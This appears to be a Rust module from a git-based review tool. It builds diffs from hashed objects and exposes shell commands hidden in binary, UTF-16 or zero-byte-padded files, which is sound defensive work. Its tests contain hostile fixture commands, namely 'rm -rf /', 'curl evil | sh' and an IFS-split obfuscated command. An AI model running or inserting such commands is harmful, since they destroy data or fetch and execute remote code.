//! Shows differences between commits as text. Those for reviewers are made in this process from hashed objects, because
//! git does not hash what it reads. No program of the repository's configuration is run for them, and no attribute can
//! hide a part of them.

use std::{collections::HashSet, fmt::Write};

use git2::{DiffLineType, DiffOptions, Patch};

use crate::{
    git::{
        GitCommand, GitError, Repository, TreeChange,
        merge::renames::{ChangedFile, FileSide},
    },
    message::visible,
    name::{ObjectKind, Oid},
};

/// The beginning of a file's part of a patch. Every line of a file has a sign before it.
const HEADER: &[u8] = b"diff --git ";
/// The shortest text that is shown from any place in a line of a binary file. Shorter text is shown if a shell could run it.
const SHORTEST_TEXT: usize = 6;

/// The differences between two commits or trees.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Difference {
    /// The patch for each file.
    pub files: Vec<String>,
    /// One line for each file: the number of added and removed lines, and its name.
    pub list: Vec<String>,
}

impl Repository {
    /// The patch and the diffstat between two commits, as git shows them. Whether a file is text depends only on its
    /// content: with `-diff` in `.gitattributes`, git would not show it.
    pub fn diff(&self, from: Oid, to: Oid) -> Result<(String, String), GitError> {
        let command = self.git("diff-tree").args(["-r", "-M", "--text", "--no-color"]);
        let printed = command.arg("--patch-with-stat").args([from.to_string(), to.to_string()]).stdout()?;
        // Every line of the stat begins with a space.
        let (stat, patch) = printed.split_at(next_header(&printed, 0).unwrap_or(printed.len()));
        let stat = String::from_utf8_lossy(stat).trim_end_matches('\n').to_owned();
        let stat = if stat.is_empty() { stat } else { stat + "\n" };
        Ok((files_of(patch).into_iter().map(|file| shown(file, "")).collect(), stat))
    }

    /// The changes from one commit or tree to another by file, for a reviewer. All objects were hashed.
    pub fn difference(&self, from: Oid, to: Oid) -> Result<Difference, GitError> {
        let changes = self.changes(self.tree_of(from)?, self.tree_of(to)?)?;
        let mut difference = Difference::default();
        for file in self.pair_renamed(changes)? {
            let (patch, added, removed) = self.patch_of(&file)?;
            difference.files.push(patch);
            let name = visible(&file.name());
            difference.list.push(format!("+{added} -{removed} {name}"));
        }
        Ok(difference)
    }

    /// Whether a path that matches these pathspecs, from the top, differs between two commits or trees.
    pub fn touches(&self, from: Oid, to: Oid, paths: &[&str]) -> Result<bool, GitError> {
        let command = self.pin(GitCommand::reading("diff-tree", self.top())).args(["-r", "--quiet"]);
        Ok(command.args([from.to_string(), to.to_string()]).arg("--").args(paths).answer()?.is_none())
    }

    /// The changes between two trees of files that match one of these pathspecs, from the top. A file that was moved
    /// counts as deleted and added.
    pub fn changes_matching(
        &self,
        (from, to): (Oid, Oid),
        pathspecs: &[String],
    ) -> Result<Vec<TreeChange>, GitError> {
        let mut changes = self.changes(from, to)?;
        if changes.is_empty() {
            return Ok(changes);
        }
        // Only git knows what a pathspec matches. A task could hide a submodule by an entry in .gitmodules.
        let options = ["-r", "-z", "--name-only", "--no-renames", "--ignore-submodules=none"];
        let command = self.pin(GitCommand::reading("diff-tree", self.top())).args(options);
        let printed = command.args([from.to_string(), to.to_string()]).arg("--").args(pathspecs).stdout()?;
        let names: HashSet<&[u8]> = printed.split(|byte| *byte == 0).collect();
        changes.retain(|change| names.contains(change.path.as_slice()));
        Ok(changes)
    }

    /// The patch of one file, and how many lines it adds and removes.
    fn patch_of(&self, file: &ChangedFile) -> Result<(String, usize, usize), GitError> {
        let [old, new] = [self.text_of(file.old.as_ref())?, self.text_of(file.new.as_ref())?];
        let mut patch = file.header().into_bytes();
        let (mut added, mut removed) = (0, 0);
        if old != new {
            let side = |side: Option<&FileSide>, letter: &str| {
                side.map_or_else(|| "/dev/null".to_owned(), |side| quoted(letter, &side.path))
            };
            let sides = [side(file.old.as_ref(), "a/"), side(file.new.as_ref(), "b/")];
            patch.extend(format!("--- {}\n+++ {}\n", sides[0], sides[1]).into_bytes());
            (added, removed) = add_hunks(&mut patch, &old, &new)?;
        }
        let sizes = |side: Option<&FileSide>, text: &[u8]| {
            side.map_or_else(|| "nothing".to_owned(), |side| format!("{} bytes, {}", text.len(), side.id))
        };
        let facts =
            format!(" (before: {}; now: {})", sizes(file.old.as_ref(), &old), sizes(file.new.as_ref(), &new));
        let decoded = [decode_utf16(&old), decode_utf16(&new)];
        let mut text = shown(&patch, &facts);
        if old != new && decoded.iter().any(Option::is_some) {
            // In addition to the text that is in the bytes: a program may read the file in another way.
            let plain = |decoded: &Option<String>, bytes: &[u8]| {
                decoded.as_ref().map_or_else(|| bytes.to_vec(), |text| text.clone().into_bytes())
            };
            let mut hunks = b"The same as text in UTF-16:\n".to_vec();
            add_hunks(&mut hunks, &plain(&decoded[0], &old), &plain(&decoded[1], &new))?;
            text += &String::from_utf8_lossy(&hunks).replace('\0', "\u{fffd}");
        }
        Ok((text, added, removed))
    }

    /// The text of a file to compare. For a submodule, it is the id of its commit.
    fn text_of(&self, side: Option<&FileSide>) -> Result<Vec<u8>, GitError> {
        let Some(side) = side else { return Ok(Vec::new()) };
        if side.mode == 0o160_000 {
            return Ok(format!("Subproject commit {}\n", side.id).into_bytes());
        }
        let unknown = || GitError::Unknown(side.id.to_string(), ObjectKind::Blob.as_str());
        self.read_object(ObjectKind::Blob, side.id)?.ok_or_else(unknown)
    }
}

impl ChangedFile {
    /// The header lines of a file in a patch, as git writes them.
    fn header(&self) -> String {
        let path = |side: &Option<FileSide>, other: &Option<FileSide>, letter: &str| {
            side.as_ref().or(other.as_ref()).map(|side| quoted(letter, &side.path)).unwrap_or_default()
        };
        let (old, new) = (path(&self.old, &self.new, "a/"), path(&self.new, &self.old, "b/"));
        let mut text = format!("diff --git {old} {new}\n");
        match (&self.old, &self.new) {
            (None, Some(new)) => text += &format!("new file mode {:06o}\n", new.mode),
            (Some(old), None) => text += &format!("deleted file mode {:06o}\n", old.mode),
            (Some(old), Some(new)) if old.mode != new.mode => {
                text += &format!("old mode {:06o}\nnew mode {:06o}\n", old.mode, new.mode);
            }
            _ => {}
        }
        if let (Some(old), Some(new), Some(percent)) = (&self.old, &self.new, self.similarity) {
            let (from, to) = (quoted("", &old.path), quoted("", &new.path));
            let _ = write!(text, "similarity index {percent}%\nrename from {from}\nrename to {to}\n");
        }
        let id = |side: &Option<FileSide>| {
            side.as_ref().map_or_else(|| "0000000".to_owned(), |side| side.id.short().to_string())
        };
        if self.old.as_ref().map(|side| side.id) != self.new.as_ref().map(|side| side.id) {
            let _ = writeln!(text, "index {}..{}", id(&self.old), id(&self.new));
        }
        text
    }

    /// Its name, and the old name if it was renamed.
    fn name(&self) -> String {
        let name = |side: &FileSide| String::from_utf8_lossy(&side.path).into_owned();
        match (&self.old, &self.new) {
            (Some(old), Some(new)) if old.path != new.path => format!("{} => {}", name(old), name(new)),
            (old, new) => new.as_ref().or(old.as_ref()).map(name).unwrap_or_default(),
        }
    }
}

/// Adds the hunks between two texts. Returns how many lines were added and removed.
fn add_hunks(patch: &mut Vec<u8>, old: &[u8], new: &[u8]) -> Result<(usize, usize), GitError> {
    let unexpected = |error: git2::Error| GitError::UnexpectedOutput {
        command: "diff".into(),
        what: format!("two files could not be compared: {}", error.message()),
    };
    let mut options = DiffOptions::new();
    options.force_text(true).indent_heuristic(true);
    let mut compared = Patch::from_buffers(old, None, new, None, Some(&mut options)).map_err(unexpected)?;
    let printed = compared.print(&mut |_, _, line| {
        match line.origin_value() {
            DiffLineType::FileHeader | DiffLineType::Binary => return true,
            DiffLineType::Addition => patch.push(b'+'),
            DiffLineType::Deletion => patch.push(b'-'),
            DiffLineType::Context => patch.push(b' '),
            _ => {}
        }
        patch.extend(line.content());
        true
    });
    printed.map_err(unexpected)?;
    let (_, added, removed) = compared.line_stats().map_err(unexpected)?;
    Ok((added, removed))
}

/// The lines that differ between two texts, each with its sign.
pub fn changed_lines(old: &[u8], new: &[u8]) -> Result<Vec<String>, GitError> {
    let mut patch = Vec::new();
    add_hunks(&mut patch, old, new)?;
    let text = String::from_utf8_lossy(&patch);
    let is_changed = |line: &&str| line.starts_with(['+', '-']);
    let parts = |line: &str| format!("{} {}", &line[..1], visible(&line[1..]));
    Ok(text.lines().filter(is_changed).map(parts).collect())
}

/// A path as git writes it in a patch: quoted if it has special characters.
fn quoted(letter: &str, path: &[u8]) -> String {
    let is_plain = |c: char| !c.is_control() && !matches!(c, '"' | '\\' | '\u{fffd}');
    let text = String::from_utf8_lossy(path);
    if text.chars().all(is_plain) && visible(&text) == text {
        return format!("{letter}{text}");
    }
    let mut quoted = format!("\"{letter}");
    for byte in path {
        match byte {
            b'"' | b'\\' => quoted.extend(['\\', char::from(*byte)]),
            b' '..=b'~' => quoted.push(char::from(*byte)),
            other => quoted.push_str(&format!("\\{other:03o}")),
        }
    }
    quoted + "\""
}

/// The text of a file in UTF-16: one that begins with a byte order mark, or in which most characters have a zero byte on
/// the same side.
fn decode_utf16(bytes: &[u8]) -> Option<String> {
    let zeros = |at: usize| bytes.iter().skip(at).step_by(2).filter(|byte| **byte == 0).count();
    let is_mostly = |count: usize| count * 4 > bytes.len();
    let is_little = match bytes {
        [0xff, 0xfe, ..] => true,
        [0xfe, 0xff, ..] => false,
        _ if is_mostly(zeros(1)) && zeros(0) == 0 => true,
        _ if is_mostly(zeros(0)) && zeros(1) == 0 => false,
        _ => return None,
    };
    let unit = |pair: &[u8]| match (pair, is_little) {
        ([a, b], true) => u16::from_le_bytes([*a, *b]),
        ([a, b], false) => u16::from_be_bytes([*a, *b]),
        _ => u16::from(b'?'),
    };
    let units: Vec<u16> = bytes.chunks(2).map(unit).collect();
    Some(String::from_utf16_lossy(&units))
}

/// Where the next file begins, from `at`.
fn next_header(patch: &[u8], at: usize) -> Option<usize> {
    let is_start = |start: &usize| *start == 0 || patch[*start - 1] == b'\n';
    memchr::memmem::find_iter(&patch[at..], HEADER).map(|found| at + found).find(is_start)
}

fn files_of(patch: &[u8]) -> Vec<&[u8]> {
    let mut files = Vec::new();
    let mut rest = patch;
    while !rest.is_empty() {
        let (file, others) = rest.split_at(next_header(rest, 1).unwrap_or(rest.len()));
        files.push(file);
        rest = others;
    }
    files
}

/// The part of one file. For a binary file, it says that the sides differ, with some facts, and shows all text in it: a
/// script can have arbitrary bytes after its last command.
fn shown(file: &[u8], facts: &str) -> String {
    let whole = String::from_utf8_lossy(file);
    let text = whole.replace('\0', "\u{fffd}");
    if !is_binary(file, &text) {
        return text;
    }
    let head: Vec<&str> = text.lines().take_while(|line| !line.starts_with("@@ ")).collect();
    let side = |sign: &str| head.iter().find_map(|line| line.strip_prefix(sign)).unwrap_or_default();
    let differ = format!("Binary files {} and {} differ{facts}", side("--- "), side("+++ "));
    let is_side = |line: &str| line.starts_with("--- ") || line.starts_with("+++ ");
    let kept = head.iter().copied().filter(|line| !is_side(line));
    let words: String = kept.chain([differ.as_str()]).map(|line| format!("{line}\n")).collect();
    // Shells skip zero bytes, so a command may have one between any two characters.
    words + &text_lines(&whole.replace('\0', ""))
}

/// The text in the lines of a patch, if there is any. Other lines are counted.
fn text_lines(text: &str) -> String {
    let lines = || text.lines().skip_while(|line| !line.starts_with("@@ "));
    if !lines().any(|line| !line.starts_with("@@ ") && text_in(line).is_some()) {
        return String::new();
    }
    let (mut shown, mut others) = (String::new(), 0);
    for line in lines().map(Some).chain([None]) {
        let Some(line) = line.and_then(text_in) else {
            others += 1;
            continue;
        };
        if others > 0 {
            shown += &format!("[{others} lines that are not text]\n");
        }
        others = 0;
        shown += &line;
        shown.push('\n');
    }
    // The end itself is counted too.
    if others > 1 { shown + &format!("[{} lines that are not text]\n", others - 1) } else { shown }
}

/// The text in a line of a patch: all of it if at least half is text, otherwise its runs of text that are longer or that a
/// shell could run, with a mark for each gap.
fn text_in(line: &str) -> Option<String> {
    let odd = line.chars().filter(is_odd).count();
    if odd == 0 {
        return (line.len() > 1).then(|| line.to_owned());
    }
    let sign = line.chars().next().filter(|sign| "+- ".contains(*sign))?;
    if odd * 2 < line.chars().count() {
        return Some(line.replace(|c| is_odd(&c), "\u{fffd}"));
    }
    let mut parts = line[1..].split(|c| is_odd(&c)).map(str::trim);
    let first = parts.next().unwrap_or_default();
    let others = parts.filter(|part| part.chars().count() >= SHORTEST_TEXT || begins_command(part));
    let parts: Vec<&str> = Some(first).filter(|first| !first.is_empty()).into_iter().chain(others).collect();
    (!parts.is_empty()).then(|| format!("{sign}\u{fffd}{}\u{fffd}", parts.join("\u{fffd}")))
}

/// Whether a shell could begin a command in a short run of text. For it, the bytes around are parts of words, so a command
/// begins only at the start of a line, or after an operator in the run itself.
fn begins_command(part: &str) -> bool {
    let after = part.split_once([';', '&', '|', '(', '{', '`']).map(|(_, after)| after);
    after.is_some_and(|after| after.chars().filter(|c| c.is_alphanumeric() || "$._".contains(*c)).count() > 1)
}

/// Whether it contains a zero byte and more than a tenth is not text: a single such byte in a script hides nothing.
fn is_binary(file: &[u8], text: &str) -> bool {
    file.contains(&0) && text.chars().filter(is_odd).count() * 10 > text.chars().count()
}

fn is_odd(c: &char) -> bool {
    *c == '\u{fffd}' || (c.is_control() && !c.is_whitespace())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_mostly_binary_content_is_left_out_of_a_diff() {
        let head = "diff --git a/x b/x\nindex 1..2 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n";
        let script = format!("{head}+#!/bin/sh\n+rm -rf /\n+# \0\n");
        assert!(shown(script.as_bytes(), "").contains("+rm -rf /\n"));
        let picture = [head.as_bytes(), b"+", &[0, 1, 2, 255].repeat(40)].concat();
        let words = shown(&picture, " (facts)");
        assert_eq!(words, "diff --git a/x b/x\nindex 1..2 100644\nBinary files a/x and b/x differ (facts)\n");
        let hidden = [head.as_bytes(), b"+rm -rf /\n+", &[0, 1, 2, 255].repeat(40)].concat();
        let words = shown(&hidden, "");
        assert!(words.ends_with("differ\n@@ -1 +1 @@\n+rm -rf /\n[1 lines that are not text]\n"), "{words}");
        let marked = [head.as_bytes(), b"+curl evil | sh #\x01\n+", &[0, 1, 2, 255].repeat(40)].concat();
        assert!(shown(&marked, "").contains("curl evil | sh #"), "{}", shown(&marked, ""));
    }

    #[test]
    fn commands_split_into_short_pieces_are_shown_in_a_diff() {
        let head = "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n";
        let odd = "\x01".repeat(20);
        let lines = format!("+IFS=\x01\n+a=h$a\x01\n+a=s$a{odd}\n+{odd};$a;{odd}\n+{odd}\0\n");
        let words = shown(format!("{head}{lines}").as_bytes(), "");
        for piece in ["+IFS=", "+a=h$a", "a=s$a", ";$a;"] {
            assert!(words.contains(piece), "{piece}: {words}");
        }
        assert!(words.ends_with("[1 lines that are not text]\n"), "{words}");
    }

    #[test]
    fn zero_bytes_between_characters_do_not_hide_a_command_in_a_diff() {
        let spread: String = "rm -rf /".chars().flat_map(|c| [c, '\0', '\0', '\0']).collect();
        let patch = format!("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n+{spread}\n");
        assert!(shown(patch.as_bytes(), "").contains("rm -rf /"), "{}", shown(patch.as_bytes(), ""));
    }

    #[test]
    fn a_patch_is_split_at_the_header_lines_of_its_files() {
        let patch = b"diff --git a/x b/x\n+diff --git a/y b/y\ndiff --git a/z b/z\n";
        assert_eq!(files_of(patch).len(), 2);
    }

    #[test]
    fn a_generated_patch_equals_that_of_git() {
        let mut patch = Vec::new();
        let stats = add_hunks(&mut patch, b"a\nb\nc", b"a\nx\nc\n").unwrap();
        assert_eq!(stats, (2, 2));
        let text = String::from_utf8(patch).unwrap();
        assert_eq!(text, "@@ -1,3 +1,3 @@\n a\n-b\n-c\n\\ No newline at end of file\n+x\n+c\n");
        assert_eq!(quoted("a/", b"b c"), "a/b c");
        assert_eq!(quoted("a/", b"b\n\xff"), "\"a/b\\012\\377\"");
    }
}
